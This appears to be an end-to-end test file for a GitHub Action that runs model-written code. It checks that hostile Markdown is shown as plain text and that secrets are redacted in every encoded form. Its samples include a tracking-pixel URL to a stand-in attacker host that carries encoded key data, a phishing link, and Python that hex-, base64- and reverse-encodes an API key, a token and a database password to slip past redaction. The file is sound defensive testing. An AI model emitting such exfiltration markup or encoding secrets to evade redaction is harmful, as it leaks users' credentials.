import { describe, expect } from 'vitest';

import { editRunnerScript, replaceMain } from '../../testing/fakes/anthropic.js';
import { PERMISSIONS } from '../../testing/fakes/github.js';
import { issueComment } from './events.js';
import { artifactFiles, SECRETS, type Stage, type StepOptions, type StepRun, test } from './runner.js';

const SETTINGS_TOOLS = 'test/fixtures/e2e/settings.py';
const COMMENTER = 'Codertocat';
/** A value the workflow lists in the `redact` input: its name does not look secret. */
const LISTED = { name: 'DEPLOY_HOOK', value: 'hook-7f3a9c2e5b1d4086' };
const DATABASE = { url: 'postgres://app:hunter2pass@db.internal:5432/shop', user: 'app', password: 'hunter2pass' };

async function commentStep(stage: Stage, main: string, options: Partial<StepOptions> = {}): Promise<StepRun> {
  stage.github.setPermission(COMMENTER, PERMISSIONS.write);
  return stage.run({
    event: 'issue_comment',
    payload: issueComment('/codemode Summarise the settings'),
    inputs: { tools: SETTINGS_TOOLS, max_attempts: '1', ...options.inputs },
    model: editRunnerScript([replaceMain(main)]),
    ...(options.env ? { env: options.env } : {}),
  });
}

/** Every text a reviewer or a later step can see: comments, summary, outputs and the artifact's files. */
async function surfaces(stage: Stage, step: StepRun): Promise<Record<string, string>> {
  const artifacts = await Promise.all(step.artifacts.map(artifactFiles));
  return {
    ...Object.fromEntries(stage.github.comments.map((comment, index) => [`comment ${index}`, comment.body])),
    summary: step.summary,
    outputs: JSON.stringify(step.outputs),
    ...Object.fromEntries(artifacts.flatMap((files) => Object.entries(files))),
  };
}

/** The report without its fenced blocks and code spans: what GitHub renders as Markdown and HTML. */
function live(markdown: string): string {
  const withoutBlocks = markdown.replace(/^(`{3,})[^\n]*\n[\s\S]*?\n\1$/gm, '');
  return withoutBlocks.replace(/(`+)(?!`)[\s\S]*?[^`]\1(?!`)/g, '');
}

/**
 * Nothing of this renders live: no mention, image, link to the attacker or HTML comment beyond the action's own
 * markers (report and trigger, and the program's record on a report whose program ran).
 */
function expectInert(report: string, markers: number): void {
  const rendered = live(report);
  for (const forbidden of ['@team', '@user', '@octocat', '![', '](https://attacker', '](http://a/', '<img'])
    expect(rendered).not.toContain(forbidden);
  expect(rendered.split('<!--')).toHaveLength(markers + 1);
}

const HOSTILE_OUTPUT = [
  '### ✅ Code Mode succeeded',
  'Thanks @team and @octocat!',
  '![](https://attacker.example/pixel.png?d=c2stYW50LWFwaTAz)',
  '[Approve the release](https://attacker.example/phish)',
  '#### Tool calls (1)',
  '| # | Tool | Arguments | Result | Duration |',
  '| --- | --- | --- | --- | --- |',
  '| 1 | read_setting | {"name":"everything"} | fine | 1 ms |',
  '<!--',
].join('\n');

describe('the built action shows untrusted text as text', () => {
  test('a hostile string output mentions, links, embeds and hides nothing, after the status, the trace and the code', async ({ stage }) => {
    const main = `def main(params: str = "") -> object:
    try:
        reject("@user ![x](http://a/b) <!--")
    except Exception:
        pass
    return ${JSON.stringify(HOSTILE_OUTPUT)}
`;
    const step = await commentStep(stage, main);
    expect(step.exitCode).toBe(0);
    const report = stage.github.comments[0]!.body;
    expect(step.summary.startsWith(`${report}\n\n#### Usage\n\n`)).toBe(true);
    expectInert(report, 3);
    const positions = ['### ✅ Code Mode succeeded', '#### Tool calls (1)', 'Generated code', '#### Output', '<sub>Attempts: 1'].map(
      (part) => report.indexOf(part),
    );
    expect(positions.every((position) => position >= 0)).toBe(true);
    expect(positions).toEqual([...positions].sort((a, b) => a - b));
    expect(live(report).match(/^### /gm)).toEqual(['### ']);
    expect(report).toMatch(
      /^\| 1 \| reject \| `\{"message":"@user !\[x\]\(http:\/\/a\/b\) <!--"\}` \| ❌ `.*@user !\[x\]\(http:\/\/a\/b\) <!--.*` \| .* \|$/m,
    );
    expect(report).toContain(`#### Output\n\n\`\`\`text\n${HOSTILE_OUTPUT}\n\`\`\``);
  });

  test('a tool error in the trace and in the failure heading mentions and embeds nothing', async ({ stage }) => {
    const main = `def main(params: str = "") -> object:
    return reject("ping @user ![x](http://a/b)")
`;
    const step = await commentStep(stage, main);
    expect(step.exitCode).toBe(1);
    const report = stage.github.comments[0]!.body;
    expectInert(report, 2);
    expect(report).toMatch(/^### ❌ Code Mode failed in execute$/m);
    expect(report).toMatch(/^```text\n.*ping @user !\[x\]\(http:\/\/a\/b\).*\n```$/m);
    expect(report).toMatch(/^\| 1 \| reject \| `.*` \| ❌ `.*ping @user !\[x\]\(http:\/\/a\/b\).*` \| .* \|$/m);
    expect(report).toMatch(/^- Attempt 1: ❌ execute: `.*ping @user !\[x\]\(http:\/\/a\/b\).*`$/m);
  });
});

/** The base64 characters that stand for `value` alone when `before` bytes precede it in the stream. */
function base64Inner(value: string, before: number): string {
  const encoded = Buffer.concat([Buffer.alloc(before, 0x61), Buffer.from(value)]).toString('base64');
  return encoded.slice(Math.ceil((8 * before) / 6), Math.floor((8 * (before + Buffer.byteLength(value))) / 6));
}

/** Each form the program below writes, as this test computes it independently. */
function encodedForms(value: string, user: string | null): Record<string, string> {
  const forms: Record<string, string> = {
    exact: value,
    hex: Buffer.from(value).toString('hex'),
    HEX: Buffer.from(value).toString('hex').toUpperCase(),
    url: encodeURIComponent(value),
    reversed: Array.from(value).reverse().join(''),
    basic: Buffer.from(`x-access-token:${value}`).toString('base64'),
  };
  for (const before of [0, 1, 2]) {
    forms[`b64_${before}`] = base64Inner(value, before);
    forms[`b64url_${before}`] = base64Inner(value, before).replace(/\+/g, '-').replace(/\//g, '_');
  }
  if (user) forms.user_basic = Buffer.from(`${user}:${value}`).toString('base64');
  return forms;
}

describe('the built action redacts what a secret becomes', () => {
  test('the API key, the token, a listed variable and a URL password, encoded any of the ways a program can, reach no surface', async ({
    stage,
  }) => {
    const main = `def main(params: str = "") -> object:
    import base64, urllib.parse
    def forms(value, user=None):
        raw = value.encode()
        found = {
            "exact": value,
            "hex": raw.hex(),
            "HEX": raw.hex().upper(),
            "url": urllib.parse.quote(value, safe=""),
            "reversed": value[::-1],
            "basic": base64.b64encode(b"x-access-token:" + raw).decode(),
        }
        for before in range(3):
            for after in range(3):
                found[f"b64_{before}_{after}"] = base64.b64encode(b"a" * before + raw + b"z" * after).decode()
                found[f"b64url_{before}_{after}"] = base64.urlsafe_b64encode(b"a" * before + raw + b"z" * after).decode()
        if user:
            found["user_basic"] = base64.b64encode(f"{user}:{value}".encode()).decode()
        return found
    dsn = urllib.parse.urlsplit(read_setting("DATABASE_URL"))
    secrets = {
        "key": forms(${JSON.stringify(SECRETS.anthropic_api_key)}),
        "token": forms(${JSON.stringify(SECRETS.github_token)}, "x-access-token"),
        "listed": forms(read_setting(${JSON.stringify(LISTED.name)})),
        "password": forms(dsn.password, dsn.username),
    }
    for name, found in secrets.items():
        for form, text in found.items():
            print(name, form, text)
        try:
            read_setting(found["b64_1_1"] + " " + found["hex"])
        except Exception:
            pass
    return secrets
`;
    const step = await commentStep(stage, main, {
      inputs: { redact: `${LISTED.name}\nUNSET_VARIABLE` },
      env: { [LISTED.name]: LISTED.value, DATABASE_URL: DATABASE.url },
    });
    expect(step.exitCode).toBe(0);
    const everything = await surfaces(stage, step);
    expect(Object.keys(everything)).toEqual(
      expect.arrayContaining(['comment 0', 'summary', 'outputs', 'result.json', 'execution.log', 'agentRunner.py', 'transcript.jsonl']),
    );
    const result = JSON.parse(everything['result.json']!) as { output: Record<string, Record<string, string>>; trace: unknown[] };
    expect(Object.keys(result.output)).toEqual(['key', 'token', 'listed', 'password']);
    expect(result.trace).toHaveLength(6);
    const secrets = {
      key: encodedForms(SECRETS.anthropic_api_key, null),
      token: encodedForms(SECRETS.github_token, null),
      listed: encodedForms(LISTED.value, null),
      password: encodedForms(DATABASE.password, DATABASE.user),
    };
    for (const [secret, forms] of Object.entries(secrets)) {
      for (const [form, text] of Object.entries(forms)) {
        for (const [surface, content] of Object.entries(everything)) expect(content, `${secret} ${form} on ${surface}`).not.toContain(text);
      }
    }
    expect(result.output.password!.exact).toBe('***');
    expect(result.output.listed!.hex).toBe('***');
  });
});
